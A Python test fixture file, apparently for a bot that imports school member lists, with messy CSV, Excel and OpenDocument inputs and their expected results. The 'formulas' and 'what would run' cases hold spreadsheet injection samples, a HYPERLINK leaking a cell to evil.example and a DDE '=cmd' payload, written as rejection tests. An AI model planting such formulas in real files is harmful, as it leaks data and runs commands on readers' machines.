"""Lists of people as schools send them, each with what is to come of it."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date

from xlsxwriter.workbook import Workbook

from bot.core.cells import Fault
from bot.core.sheets import Why
from tests.imports import files

Left = tuple[int, Fault]


@dataclass(frozen=True)
class Ugly:
    """A file; who comes new, and in which rows something is not taken; or why it is refused."""

    data: bytes
    people: list[str] = field(default_factory=list)
    left: list[Left] = field(default_factory=list)
    why: Why | None = None


KIM, SAM, EVA = "Kim Lee", "Sam Fox", "Eva Müller"
PLAIN = "Name,School,Phase\nKim Lee,Hill School,Primary\nSam Fox,Dale School,Secondary\n"


def titled(book: Workbook) -> None:
    """Titles above the heads, empty columns between, a total below, a note below that."""
    sheet = book.add_worksheet()
    sheet.merge_range("A1:F1", "STEM network, members 2026/27")
    sheet.write("B2", "as of 12.9.2026")
    sheet.write_row("B5", ["Name", "", "School", "", "Tel."])
    sheet.write_row("B6", ["Kim Lee", "", "Hill School", "", "07700 900123"])
    sheet.write_row("B7", ["Sam Fox", "", "Dale School", "", "n/a"])
    sheet.write_row("B9", ["Total", "", 2])
    sheet.write("B11", "Please send changes to the office by Friday, thank you.")


def merged(book: Workbook) -> None:
    """One cell for the school of several people."""
    sheet = book.add_worksheet()
    sheet.write_row("A1", ["School", "Name"])
    sheet.merge_range("A2:A3", "Hill School")
    sheet.write_column("B2", ["Kim Lee", "Sam Fox"])
    sheet.write_row("A4", ["Dale School", "Eva Müller"])


def two_heads(book: Workbook) -> None:
    """Heads in two rows, the upper ones merged."""
    sheet = book.add_worksheet()
    sheet.merge_range("A1:B1", "Name")
    sheet.merge_range("C1:C2", "School")
    sheet.write_row("A2", ["First", "Last"])
    sheet.write_row("A3", ["Kim", "Lee", "Hill School"])
    sheet.write_row("A4", ["Sam", "Fox", "Dale School"])


def formulas(book: Workbook) -> None:
    """Names put together by a formula, one of which would call out."""
    sheet = book.add_worksheet()
    sheet.write_row("A1", ["Name", "School"])
    sheet.write_formula("A2", '=C2&" "&D2', None, "Kim Lee")
    sheet.write_formula(
        "B2", '=HYPERLINK("https://evil.example/?"&A2,"Hill School")', None, "Hill School"
    )
    sheet.write_formula("A3", "=1+1", None, 2)


def hidden(book: Workbook) -> None:
    """A sheet that nobody sees, with a list for choices in it."""
    sheet = book.add_worksheet("Liste")
    sheet.write_row("A1", ["Name", "School"])
    sheet.write_row("A2", ["Kim Lee", "Hill School"])
    other = book.add_worksheet("Choices")
    other.write_column("A1", ["Name", "Nobody Here"])
    other.hide()


def ods_merged() -> str:
    """A cell over two rows as OpenDocument has it, and a million empty rows."""
    row = files.ods_row("Koulu", "Nimi")
    row += (
        "<table:table-row><table:table-cell office:value-type='string'"
        " table:number-rows-spanned='2'><text:p>Töölön koulu</text:p></table:table-cell>"
        "<table:table-cell office:value-type='string'><text:p>Päivi Mäkelä</text:p>"
        "</table:table-cell></table:table-row>"
    )
    row += (
        "<table:table-row><table:covered-table-cell/><table:table-cell"
        " office:value-type='string'><text:p>Åsa Öhman</text:p></table:table-cell>"
        "</table:table-row>"
    )
    return row + files.ods_row("", times=1048000)


UGLY: dict[str, Ugly] = {
    "commas": Ugly(PLAIN.encode(), [KIM, SAM]),
    "semicolons and a mark": Ugly(b"\xef\xbb\xbf" + PLAIN.replace(",", ";").encode(), [KIM, SAM]),
    "tabs, from Windows": Ugly(
        "Name\tSchule\tFächer\r\nMüller, Eva\tGrundschule Süd\tPhysik\r\n".encode("cp1252"), [EVA]
    ),
    "from an old Mac": Ugly(
        "Nom;Prénom;Établissement\rÇelik;Hélène;Lycée Émile\r".encode("mac_roman"),
        ["Hélène Çelik"],
    ),
    "unicode text": Ugly(PLAIN.replace(",", "\t").encode("utf-16"), [KIM, SAM]),
    "utf-16 without a mark": Ugly(PLAIN.encode("utf-16-be"), [KIM, SAM]),
    "a hint for Excel": Ugly(b"sep=;\nName;School\nKim Lee;Hill School\n", [KIM]),
    "quoted lines": Ugly(
        b'Name,School\n"Lee, Kim","Hill School,\nNorth Road"\n"Fox, Sam",Dale School\n', [KIM, SAM]
    ),
    "titles and a total": Ugly(
        files.xlsx(titled), [KIM, SAM], [(9, Fault.TOTAL), (11, Fault.NOT_A_NAME)]
    ),
    "merged cells": Ugly(files.xlsx(merged), [KIM, SAM, EVA]),
    "heads in two rows": Ugly(files.xlsx(two_heads), [KIM, SAM]),
    "several sheets": Ugly(
        files.sheets(
            Primary=[["Name", "School"], ["Kim Lee", "Hill School"]],
            Secondary=[["School", "Name"], ["Dale School", "Sam Fox"], ["Hill School", "Lee, Kim"]],
            Notes=[["Ask the office before you change this."]],
        ),
        [KIM, SAM],
        [(3, Fault.TWICE), (0, Fault.NO_HEADS)],
    ),
    "dates for years": Ugly(
        files.sheets(
            A=[
                ["Name", "Since", "Years"],
                ["Kim Lee", date(2015, 9, 1), ""],
                ["Sam Fox", "Sept 2009", ""],
                ["Eva Müller", "", 10],
                ["Ola Berg", "soon", ""],
                ["Ida Holm", 42248, ""],
                ["Uli Rot", "2012/13", ""],
                ["Noa Blau", 2099, ""],
            ]
        ),
        [KIM, SAM, EVA, "Ola Berg", "Ida Holm", "Uli Rot", "Noa Blau"],
        [(5, Fault.YEAR), (8, Fault.YEAR)],
    ),
    "formulas": Ugly(files.xlsx(formulas), [KIM], [(3, Fault.NOT_A_NAME)]),
    "a hidden sheet": Ugly(files.xlsx(hidden), [KIM]),
    "names in every way": Ugly(
        "Name;School\nLee, Kim;A School\nSam Fox;B School\nFrau Müller, Eva;C School\n"
        "Dr. Anna Keller;D School\nBerg, Ola, PhD;E School\nIda Holm <ida@x.org>;F School\n"
        "Kim & Pat;G School\nida@x.org;H School\n007;I School\nO'Brien, Sinéad (she/her);J School\n"
        .encode(),
        [KIM, SAM, EVA, "Dr. Anna Keller", "Ola Berg", "Ida Holm", "Sinéad O'Brien"],
        [(8, Fault.TWO_NAMES), (9, Fault.NO_NAME), (10, Fault.NOT_A_NAME)],
    ),
    "twice": Ugly(
        b"Name;School;Subjects\nKim Lee;Hill School;Physics\nLEE, KIM;hill school;Chemistry\n"
        b"Kim Lee;Dale School;\n",
        [KIM],
        [(3, Fault.TWICE), (4, Fault.SAME_ABOVE)],
    ),
    "several schools in a cell": Ugly(
        b'Name;Schools;Region\nKim Lee;"Hill School; Dale School";North\n'
        b"Sam Fox;Hill School/Moor School;\n",
        [KIM, SAM],
        [(2, Fault.WHICH_SCHOOL)],
    ),
    "German": Ugly(
        "Nachname;Vorname;Schule;Stufe;Funktion;Fächer;Seit;Schwerpunktschule\n"
        "Müller;Eva;Schule Süd;Sek I;Lehrerin;Mathe und Physik;2011;ja\n"
        "Fox;Sam;Schule Süd;Sekundarstufe II;Schulleiter;Sackhüpfen;;nein\n".encode(),
        [EVA, SAM],
        [(3, Fault.TOPIC)],
    ),
    "French": Ugly(
        "NOM;Prénom;Établissement;Niveau;Matières;Depuis\n"
        "Noël;François;Collège Émile;Collège;Mathématiques;2011\n".encode("cp1252"),
        ["François Noël"],
    ),
    "Italian": Ugly(
        "Cognome\tNome\tScuola\tGrado\tDiscipline\tAnni di servizio\n"
        "Però\tNiccolò\tLiceo Volta\tsuperiori\tFisica\t12\n".encode(),
        ["Niccolò Però"],
    ),
    "Finnish": Ugly(
        "Nimi;Koulu;Kouluaste;Aineet;Alkaen\nMäkelä, Päivi;Töölön koulu;alakoulu;Biologia;2018\n"
        .encode(),
        ["Päivi Mäkelä"],
    ),
    "headings between": Ugly(
        b"Name;School;Phase\nPrimary schools;;\nKim Lee;Hill School;Primary\nSecondary;;\n"
        b"Sam Fox;Dale School;Sec\n",
        [KIM, SAM],
        [(2, Fault.HEADING), (4, Fault.HEADING), (5, Fault.PHASE)],
    ),
    "printed pages": Ugly(
        (PLAIN + "\n\nName,School,Phase\nEva Müller,Moor School,Primary\n").encode(),
        [KIM, SAM, EVA],
        [(6, Fault.HEADS_AGAIN)],
    ),
    "LibreOffice": Ugly(files.ods(ods_merged()), ["Päivi Mäkelä", "Åsa Öhman"]),
    "Excel of 2003": Ugly(
        files.xls({(0, 0): "Name", (0, 1): "Since", (1, 0): "Müller, Eva", (1, 1): 2009.0}), [EVA]
    ),
    "what would run": Ugly(
        b'Name;School;Region\n"=cmd|\'/C calc\'!A0";Hill School;\nKim Lee;=1+1;@SUM(A1)\n',
        [KIM],
        [(2, Fault.NOT_A_NAME), (3, Fault.SCHOOL), (3, Fault.SCHOOL)],
    ),
    "slips of typing": Ugly(
        b"Teachers;Schol;Subjcts;Role\nKim Lee;Hill School;Phisics;Teachr\n",
        [KIM],
        [(2, Fault.TEACHES), (2, Fault.NEARLY)],
    ),
    "no heads": Ugly(b"Kim Lee;Hill School\nSam Fox;Dale School\n", [], [(0, Fault.NO_HEADS)]),
    "only heads": Ugly(b"Name;School\n"),
    "a password": Ugly(files.ole({"EncryptedPackage": b"x" * 5000}), why=Why.LOCKED),
    "a password in LibreOffice": Ugly(
        files.ods("", manifest="<manifest:encryption-data/>"), why=Why.LOCKED
    ),
    "a picture": Ugly(b"\x89PNG\r\n\x1a\n" + bytes(500), why=Why.PICTURE),
    "a PDF": Ugly(b"%PDF-1.7\n" + bytes(500), why=Why.PICTURE),
    "nothing": Ugly(b"", why=Why.EMPTY),
    "an empty sheet": Ugly(files.sheets(A=[]), why=Why.EMPTY),
    "a web page called .xls": Ugly(b"<html><table><tr><td>Name</td></tr></table>", why=Why.WEB),
    "a letter": Ugly(files.packed(word__document_xml="<w/>"), why=Why.DOCUMENT),
    "a letter of 2003": Ugly(files.ole({"WordDocument": b"x" * 5000}), why=Why.DOCUMENT),
    "a text of LibreOffice": Ugly(
        files.ods("", mimetype="application/vnd.oasis.opendocument.text"), why=Why.DOCUMENT
    ),
    "a packed folder": Ugly(files.packed(people_csv=PLAIN), why=Why.ARCHIVE),
    "cut off": Ugly(files.xlsx(titled)[:3000], why=Why.BROKEN),
    "a program": Ugly(b"\x7fELF" + bytes(range(256)) * 9, why=Why.NO_TABLE),
    "too many people": Ugly(
        b"Name\n" + b"\n".join(b"Kim Number%c%c%c" % (97 + n % 26, 97 + n // 26 % 26, 97 + n // 676)
                              for n in range(5200)),
        why=Why.ROWS,
    ),
}  # fmt: skip
